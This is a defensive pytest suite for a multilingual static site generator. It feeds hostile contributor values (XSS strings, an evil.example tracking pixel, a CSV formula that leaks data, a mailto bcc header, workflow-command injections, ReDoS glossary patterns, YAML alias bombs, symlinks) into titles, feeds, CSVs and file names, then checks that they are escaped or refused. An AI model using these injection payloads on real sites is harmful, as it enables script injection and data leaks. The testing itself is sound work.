"""Red team of the seams: contributor values that reach outputs another
engineer added — place names, the publisher, the glossary, titles and summaries in link previews,
JSON-LD, share links, the news and newsletter feeds, the email editions, card and chart images,
and CSV. Each test either proves a hole is closed (it failed before its fix) or that a seam holds.

Payloads reach for evil.example or run alert(1), as in tests/hostile.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import feedparser
import lxml.etree
import lxml.html
import pytest
from PIL import Image

from conftest import LANGUAGES, ROOT, build, copy_project, page_path
from epi_site.content.loading import load_content
from epi_site.content.markup_check import UNSAFE
from epi_site.project import load_project
from epi_site.safety.safe_text import one_line
from hostile import build_bypassing_the_check, feed_violations, violations

# Markup, a script that tries to close the JSON-LD block, a tracking pixel, a bidi override, a
# Python format, a Jinja expression and a workflow command: all of it must come out as text.
X = ("</script><script>alert(1)</script>\"'><img src=https://evil.example/p onerror=alert(1)>"
     "\u202eRTL %(x)s {{7*7}} ::error::forged")
# Markdown and directives, which generated pages must not interpret either.
M = ("[x](javascript:alert(1)) ![p](https://evil.example/p.png) <https://evil.example/> {: onclick=alert(1) } "
     "[[cities]]")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1)'
SHOWN = X.replace("\u202e", "")  # what readers get: text, without the invisible direction control


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


def _replace(root: Path, file: str, old: str, new: str) -> None:
    path = root / file
    text = path.read_text(encoding="utf-8")
    assert old in text, (file, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


NEWS = "content/news/partnership.en.md"
NEWS_PAGE = "news/partnership"


def seam_project(target: Path) -> Path:
    root = copy_project(target)
    for lang in ("en", "lv", "pl"):
        file = root / f"content/places.{lang}.yml"
        text = re.sub(r"(?m)^  riga: .*$", "  riga: " + _quoted(X + " " + M), file.read_text(encoding="utf-8"))
        text = re.sub(r"(?m)^  EU-27: .*$", "  EU-27: " + _quoted(FORMULA + X), text)
        file.write_text(text, encoding="utf-8")
    _replace(root, "content/site.yml", "  name: PATRIR", "  name: " + _quoted(X))
    _replace(root, NEWS, "title: Thirteen partners from eight countries",
             "title: " + _quoted(X + " " + M + " \u0008\u001b مرحبا 🇪🇺"))
    _replace(root, NEWS, "summary: The EPI partnership brought together two coordinators, seven cities and four "
             "technical partners.", "summary: " + _quoted(X + " " + M))
    _replace(root, "content/newsletter/2020-q1.en.md", "title: The start of the European Pact for Integration",
             "title: " + _quoted(X))
    _replace(root, "content/charts.en.yml", "    eu-citizens: Unemployed EU citizens", "    eu-citizens: " + _quoted(FORMULA + X))
    return root


@pytest.fixture(scope="module")
def seams(tmp_path_factory):
    root = seam_project(tmp_path_factory.mktemp("seams") / "project")
    content, problems = load_content(load_project(root))
    site = tmp_path_factory.mktemp("seams-site")
    build_bypassing_the_check(root, site)
    return root, content, problems, site


def _json_ld(tree) -> list:
    return [json.loads(s.text) for s in tree.xpath("//script[@type='application/ld+json']")]


def _main_json_ld(tree) -> list:
    """The blocks about the page's subject, less its breadcrumb trail (whose names are checked with the page's)."""
    return [block for block in _json_ld(tree) if block.get("@type") != "BreadcrumbList"]


def _new_violations(tree) -> list[str]:
    """``violations``, less its one false alarm: JSON-LD data that spells 'alert' (checked apart)."""
    return [v for v in violations(tree) if not v.startswith("script: b'<script type=\"application/ld+json\"")]


# --- plain-text values are text in every output --------------------------------------------

def test_the_seam_values_are_refused_by_the_check_and_only_as_unsafe(seams):
    """Titles, place names and the publisher are plain text, shown as written (a < b, Q&A ...).
    Markup and direction controls in them are refused, as unsafe content: the build behind the
    check (the fixture's) meets them, and every output below must make them inert by itself."""
    _, content, problems, _ = seams
    assert content is None
    assert {p.category for p in problems} == {UNSAFE}, problems.report()
    refused = {p.file for p in problems}
    assert {"content/site.yml", NEWS, "content/newsletter/2020-q1.en.md", "content/charts.en.yml",
            "content/places.en.yml", "content/places.lv.yml", "content/places.pl.yml"} <= refused
    assert any("holds markup (</script>)" in p.message for p in problems)
    assert any("direction control (U+202E)" in p.message for p in problems)


def test_every_page_keeps_the_values_as_text(seams, site):
    """Compared with the shipped site (whose search form is its own), no page gains anything."""
    hostile_site = seams[3]
    checked = 0
    for path in sorted(hostile_site.rglob("*.html")):
        if "pagefind" in path.parts:
            continue
        tree = lxml.html.parse(str(path)).getroot()
        shipped = site / path.relative_to(hostile_site)
        baseline = _new_violations(lxml.html.parse(str(shipped)).getroot()) if shipped.exists() else []
        new = [v for v in _new_violations(tree) if v not in baseline]
        assert not new, f"{path.relative_to(hostile_site)}: {new}"
        for block in tree.xpath("//script"):
            assert block.get("type") == "application/ld+json" or block.get("src"), path
        _json_ld(tree)  # every block parses
        checked += 1
    assert checked > 220  # every page of eight languages


@pytest.mark.parametrize("lang", ["en", "lv", "pl"])
def test_a_place_name_is_text_in_headings_title_previews_and_json_ld(seams, lang):
    _, _, _, site = seams
    tree = lxml.html.parse(str(page_path(site, lang, "partners/riga"))).getroot()
    name = SHOWN + " " + M
    assert tree.xpath("string(//h1)").strip() == name
    assert tree.xpath("string(//title)").startswith(name)
    assert tree.xpath("//meta[@property='og:title']/@content") == [name]
    (block,) = _main_json_ld(tree)  # parses; it names the partner as partners.yml does, not by the place name
    assert block["@type"] == "Organization"
    assert not tree.xpath("//*[contains(concat(' ', @class, ' '), ' epi-cities ')]"), "[[cities]] was expanded"
    card = site / ("" if lang == "en" else lang) / "cards/partners/riga.png"
    assert Image.open(card).size == (1200, 630)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_labels_that_start_a_formula_are_text_in_every_csv(seams, lang):
    _, _, _, site = seams
    prefix = "" if lang == "en" else f"{lang}/"
    for path in sorted((site / prefix / "data").glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "@")), (path, cell)
    if lang in ("en", "lv", "pl"):  # the languages whose area label (and English label) was hostile
        rows = list(csv.reader(io.StringIO((site / prefix / "data/unemployment-2019.csv").read_text(encoding="utf-8"))))
        assert any(cell == "'" + FORMULA + SHOWN for row in rows for cell in row), rows[:2]


def test_a_news_title_is_text_in_previews_json_ld_and_share_links(seams):
    _, _, _, site = seams
    title = one_line(SHOWN + " " + M + " \u0008\u001b مرحبا 🇪🇺")
    tree = lxml.html.parse(str(page_path(site, "en", NEWS_PAGE))).getroot()
    assert tree.xpath("//meta[@property='og:title']/@content") == [title]
    assert tree.xpath("//meta[@property='og:description']/@content") == [SHOWN + " " + M]
    (article,) = _main_json_ld(tree)
    assert article["headline"] == title
    shares = tree.xpath("//*[@class='epi-share']//a/@href")
    assert shares and all(h.startswith(("https://", "mailto:?")) for h in shares)
    assert all(not re.search(r"[<>\"' ]", h) for h in shares), shares  # encoded whole
    assert Image.open(site / "cards" / f"{NEWS_PAGE}.png").size == (1200, 630)


# --- HOLE: a summary became HTML in RSS readers ---------------------------------------------

@pytest.mark.parametrize("feed", ["news/rss.xml", "news/atom.xml", "news/newsletter.rss.xml",
                                  "news/newsletter.atom.xml"])
def test_a_summary_is_text_in_the_feeds_as_a_reader_parses_them(seams, feed):
    """Before: the summary went into RSS <description> escaped once, and readers take that element
    as HTML, so '<img src=https://evil.example/p>' was a tracking pixel in every reader."""
    _, _, _, site = seams
    data = (site / feed).read_bytes()
    assert not feed_violations(data), feed_violations(data)
    parsed = feedparser.parse(data)
    entries = [e for e in parsed.entries if "alert(1)" in e.get("summary", "")]
    assert entries, "the hostile summary reached the feed"
    for entry in entries:
        summary = entry.summary
        if entry.summary_detail.type == "text/html":  # as RSS readers take <description>
            fragment = lxml.html.fragment_fromstring(summary, create_parent="div")
            assert not fragment.xpath("//img|//script"), summary[:120]
            summary = fragment.text_content()
        assert summary.startswith(SHOWN), summary[:120]  # shown exactly as written


def test_the_email_edition_keeps_the_title_as_text(seams):
    _, _, _, site = seams
    email = lxml.html.parse(str(site / "news/2020-q1/email.html")).getroot()
    assert not _new_violations(email)
    assert SHOWN in email.text_content()


# --- HOLE: a glossary form could hang the check -----------------------------------------------

def test_a_glossary_form_with_inner_wildcards_is_refused_and_cannot_hang(scratch):
    """Before: 'a*a*a*…b' became a pattern that backtracked exponentially on a long word of a
    text, and the check (which the build runs) never finished."""
    form = "a*" * 12 + "b"
    _replace(scratch, "content/glossary.yml", "english: [City Integration Strategies, City Integration Strategy]",
             f'english: ["{form}", City Integration Strategies]')
    page = scratch / "docs/goals.en.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\n" + "a" * 60 + "\n", encoding="utf-8")
    code = ("import sys, time; from pathlib import Path; from epi_site.content.loading import load_content; "
            "from epi_site.project import load_project; t = time.process_time(); "
            "c, p = load_content(load_project(Path(sys.argv[1]))); "
            "print(round(time.process_time() - t, 1)); print('\\n'.join(f'{x.file}|{x.line}|{x.message}|{x.fix}' for x in p))")
    result = subprocess.run([sys.executable, "-P", "-c", code, str(scratch)], capture_output=True, text=True, timeout=60,
                            env={"PYTHONPATH": str(ROOT / "hooks")})
    assert result.returncode == 0, result.stderr
    seconds, *lines = result.stdout.splitlines()
    assert float(seconds) < 10
    glossary = (scratch / "content/glossary.yml").read_text().splitlines()
    line = glossary.index(f'  english: ["{form}", City Integration Strategies]') + 1
    assert any(x.startswith(f"content/glossary.yml|{line}|'{form}' has a '*' that does not end a word|put '*' only at the end")
               for x in lines), lines


def test_glossary_patterns_run_in_linear_time_behind_the_check():
    """Even for a form the check would refuse: in a process of its own, so a hang fails the test."""
    code = ("import time; from epi_site.content.glossary import _pattern\n"
            "text = ('a' * 5000 + ' ') * 20 + '-'\n"
            "for form in ('a*' * 30 + 'b', 'a' + '*' * 50, 'a* ' * 30 + 'b', '*a*a*a*a*a*a*a*a*a*a*a*a*'):\n"
            "    t = time.process_time(); _pattern(form).search(text); assert time.process_time() - t < 2, form\n"
            "assert _pattern('strategi* de integrare a* oraș*').search('strategiile de integrare ale orașelor')\n")
    try:
        result = subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, timeout=30,
                                env={"PYTHONPATH": str(ROOT / "hooks")})
    except subprocess.TimeoutExpired:
        pytest.fail("a glossary pattern backtracks without end")
    assert result.returncode == 0, result.stderr


def test_glossary_values_are_escaped_in_github_annotations(scratch):
    """A rendering's text is printed in the warnings: it cannot forge a workflow command."""
    _replace(scratch, "content/glossary.yml", "    write: städernas integrationsstrategier\n",
             '    write: "zz\\n::error file=evil::forged\\n##[error]old\\r::add-mask::x\\u2028::warning::y"\n')
    _replace(scratch, "content/glossary.yml", "    accept: [städernas integrationsstrategi*, stadens integrationsstrategi*, "
             "städers integrationsstrategi*,\n             integrationsstrategi* för staden, "
             "integrationsstrategi* för städerna]\n", "")
    result = subprocess.run([sys.executable, "-P", "-m", "epi_site.check", "--root", str(scratch), "--format", "github"],
                            capture_output=True, text=True, env={"PYTHONPATH": str(ROOT / "hooks")})
    lines = result.stdout.splitlines()
    assert any("::warning file=docs/goals.sv.md" in line and "zz%0A::error" in line for line in lines), result.stdout[-2000:]
    for line in lines:
        assert not line.lstrip().startswith("::") or line.startswith(("::warning file=", "::error file=")), line
        assert "##[" not in line, line


# --- HOLE: an email address could carry mail headers ---------------------------------------

@pytest.mark.parametrize("old, new", [
    ("  email: hello@epi-project.com", "  email: hello@epi-project.com?bcc=spy%40evil.example"),
    ("email: hello@epi-project.com\nwebsite", "email: hello@epi-project.com?bcc=spy@evil.example\nwebsite"),
    ("email: hello@epi-project.com\nwebsite", "email: \"javascript:alert(1)//@evil.example\"\nwebsite"),
])
def test_an_email_address_with_headers_or_a_scheme_is_refused(scratch, tmp_path, old, new):
    """Before: the publisher's 'hello@epi-project.com?bcc=spy%40evil.example' passed (one @, a dot),
    and the site's contact address was not checked at all; after 'mailto:' in the privacy notice and
    the email editions, a reader's message was copied to another host."""
    _replace(scratch, "content/site.yml", old, new)
    _, problems = load_content(load_project(scratch))
    value = new.split(": ", 1)[1].split("\n")[0].strip('"')
    line = (scratch / "content/site.yml").read_text().splitlines().index(new.split("\n")[0]) + 1
    found = [p for p in problems if p.file == "content/site.yml" and p.line == line
             and f"'{value}' is not an email address" in p.message]
    assert found and "hello@epi-project.com" in found[0].fix, problems.report()
    result = build(scratch, tmp_path / "site")
    assert result.returncode != 0 and "is not an email address" in result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert not (tmp_path / "site" / "privacy").exists()


def test_the_shipped_addresses_are_still_accepted():
    _, problems = load_content(load_project(ROOT))
    assert not [p for p in problems if "email" in p.message]


# --- HOLE: a chart with thousands of values ---------------------------------------------------

def _many_values(root: Path, count: int) -> None:
    path = root / "content/charts/unemployment-2019.yml"
    head = path.read_text(encoding="utf-8").split("series:")[0]
    path.write_text(head + "series:\n" + "".join(f"  - key: k{i}\n    value: {i}\n" for i in range(count)), encoding="utf-8")
    _replace(root, "content/charts.en.yml", "  labels:\n    eu-citizens: Unemployed EU citizens\n",
             "  labels:\n" + "".join(f"    k{i}: Label {i}\n" for i in range(count))
             + "    eu-citizens: Unemployed EU citizens\n")


def test_a_chart_with_thousands_of_values_is_refused_quickly_and_cut_behind_the_check(scratch, tmp_path):
    """Before: 15,000 values took the check 16 s (a set rebuilt for each value) and the build over a
    minute, for a 4.5 MB home page."""
    _many_values(scratch, 8000)
    started = time.process_time()
    _, problems = load_content(load_project(scratch))
    assert time.process_time() - started < 8
    line = (scratch / "content/charts/unemployment-2019.yml").read_text().splitlines().index("series:") + 1
    found = [p for p in problems if p.file == "content/charts/unemployment-2019.yml" and p.line == line]
    assert found and "this chart has 8,000 values; the limit is 30" in found[0].message
    assert found[0].category == UNSAFE and "split the data" in found[0].fix
    site = tmp_path / "site"
    build_bypassing_the_check(scratch, site)
    rows = (site / "data/unemployment-2019.csv").read_text(encoding="utf-8").splitlines()
    assert len(rows) == 31  # the header and the first 30 values
    assert (site / "index.html").stat().st_size < 1_000_000


# --- the new YAML files and links to them --------------------------------------------------

@pytest.mark.parametrize("file", ["content/places.en.yml", "content/places.lv.yml", "content/glossary.yml"])
def test_anchors_and_deep_nesting_in_the_new_yaml_files_are_refused(scratch, file):
    path = scratch / file
    original = path.read_text(encoding="utf-8")
    path.write_text("lol1: &a [lol, lol]\nlol2: [*a, *a]\n" + original, encoding="utf-8")
    _, problems = load_content(load_project(scratch))
    assert any(p.file == file and p.line == 1 and "anchors and aliases" in p.message for p in problems), problems.report()
    path.write_text(original + "deep: " + "[" * 2000 + "]" * 2000 + "\n", encoding="utf-8")
    _, problems = load_content(load_project(scratch))
    assert any(p.file == file and "nested more than 20 levels" in p.message for p in problems), problems.report()


@pytest.mark.parametrize("file", ["content/places.lv.yml", "content/glossary.yml", "content/site.yml"])
def test_a_new_yaml_file_as_a_symbolic_link_is_refused_and_not_read(scratch, tmp_path, file):
    secret = tmp_path / "secret.yml"
    secret.write_text("cities:\n  riga: SECRET-TOKEN\n", encoding="utf-8")
    (scratch / file).unlink()
    try:
        (scratch / file).symlink_to(secret)
    except OSError:
        pytest.skip("this file system cannot hold symbolic links")
    content, problems = load_content(load_project(scratch))
    assert content is None
    assert [p for p in problems if p.file == file and "symbolic link" in p.message]
    assert "SECRET-TOKEN" not in problems.report()


def test_a_glossary_of_thousands_of_terms_is_refused_quickly(scratch):
    """Before: every form of every term is looked for in every text, and 4,000 terms took the
    check nine seconds (twenty for a glossary of the largest file allowed)."""
    languages = ("sv", "ro", "it", "es", "de", "pl", "lv")
    path = scratch / "content/glossary.yml"
    original = path.read_text(encoding="utf-8")
    terms = "".join(f"t{i}:\n  english: [zq{i}*]\n" + "".join(f"  {lang}: w{i}\n" for lang in languages)
                    for i in range(4000))
    path.write_text(original + terms, encoding="utf-8")
    started = time.process_time()
    _, problems = load_content(load_project(scratch))
    assert time.process_time() - started < 5
    count = sum(1 for line in original.splitlines() if re.match(r"^[a-z]", line))
    found = [p for p in problems if p.file == "content/glossary.yml" and "terms; the limit is 100" in p.message]
    assert found and found[0].category == UNSAFE and found[0].where == f"t{100 - count}", problems.report()
    path.write_text(original.replace("english: [City Integration Strategies, City Integration Strategy]",
                                     "english: [" + ", ".join(f"form{i}" for i in range(25)) + "]"), encoding="utf-8")
    _, problems = load_content(load_project(scratch))
    assert any("has 25 forms; the limit is 20" in p.message for p in problems), problems.report()


# --- HOLE: a huge word in a chart's label or title took seconds per image -------------------

def test_a_huge_word_is_cut_before_it_is_measured():
    """Before: an image's text was measured letter by letter at its full length; a 30,000-letter word
    in a chart label (no limit of its own) added 25 seconds to a build, one image per language."""
    from epi_site.rendering.raster_text import ELLIPSIS, fit, font

    started = time.process_time()
    fitted = fit("Z" * 100_000 + "\u0301" * 5000, "semibold", 900, 40, range(30, 21, -2), max_lines=1)
    assert time.process_time() - started < 1.5
    assert len(fitted.lines) == 1 and fitted.lines[0].endswith(ELLIPSIS)
    assert font("semibold", fitted.size).getlength(fitted.lines[0]) <= 900
    short = fit("Riga", "bold", 900, 200, range(60, 35, -4))
    assert short.lines == ("Riga",) and short.size == 60


def test_huge_labels_and_names_keep_the_images_whole(tmp_path):
    from epi_site.rendering.raster_text import MAX_LETTERS_PER_LINE, fit

    for text in ("W" * 30_000, ("word " * 10_000).strip(), "🇪🇺" * 3000, "مرحبا " * 3000):
        fitted = fit(text, "bold", 1000, 210, range(60, 35, -4), max_lines=4)
        assert 1 <= len(fitted.lines) <= 4 and all(len(line) <= MAX_LETTERS_PER_LINE + 1 for line in fitted.lines)


# --- HOLE: a value of the wrong type crashed the check or was shown as Python writes it ---------

@pytest.mark.parametrize("file, old, new, message", [
    ("content/site.yml", "social:\n  - name: Facebook\n    url:\n  - name: Instagram\n    url:\n  - name: LinkedIn\n"
     "    url:\n  - name: Twitter\n    url:\n", "social: 5\n", "'social' must be a list of channels"),
    ("content/newsletter/2020-q1.en.md", "title: The start of the European Pact for Integration", "title: [a, b]",
     "'title' must be text"),
])
def test_a_value_of_the_wrong_type_gets_a_message_not_a_traceback(scratch, old, new, file, message):
    """Before: 'social: 5' ended the check in a TypeError traceback; an introduction's title written as
    a list was published as "['a', 'b']" in the issue, its feeds and its email editions."""
    _replace(scratch, file, old, new)
    result = subprocess.run([sys.executable, "-P", "-m", "epi_site.check", "--root", str(scratch), "--no-status"],
                            capture_output=True, text=True, env={"PYTHONPATH": str(ROOT / "hooks")})
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-1500:]
    line = (scratch / file).read_text().splitlines().index(new.strip()) + 1
    assert f"{file}:{line}" in result.stdout and message in result.stdout, result.stdout


def test_file_names_cannot_forge_workflow_commands(scratch):
    """A pull request names its files: a line break, a carriage return or '##[' in a name stays inside
    one escaped annotation, and the plain report after it starts no line with '::'."""
    (scratch / "docs" / "x\n::error file=a::forged\n##[error]b.en.md").write_text("hi", encoding="utf-8")
    (scratch / "content/news" / "2021-01-01-a\r::error::c.en.md").write_text(
        "---\ntitle: t\ndate: 2021-01-01\npublished: 2026-11-24\nsummary: s\n---\nx\n", encoding="utf-8")
    result = subprocess.run([sys.executable, "-P", "-m", "epi_site.check", "--root", str(scratch), "--format", "github",
                             "--no-status"], capture_output=True, env={"PYTHONPATH": str(ROOT / "hooks")})
    output = result.stdout.decode()
    # Two problems a file: the name's line break, and what the name breaks (language, web address).
    assert result.returncode == 1 and [line[:13] for line in output.split("\n")].count("::error file=") == 4, output
    for line in output.replace("\r", "\n").split("\n"):  # as the runner splits, or more
        assert not line.strip().startswith("::") or line.startswith("::error file=docs/x\\u000a%3A%3Aerror") \
            or line.startswith("::error file=content/news/2021-01-01-a\\u000d%3A%3Aerror") \
            or line.startswith("::warning file=content/site.yml,line="), line  # the publisher's open decisions
        assert "##[" not in line, line
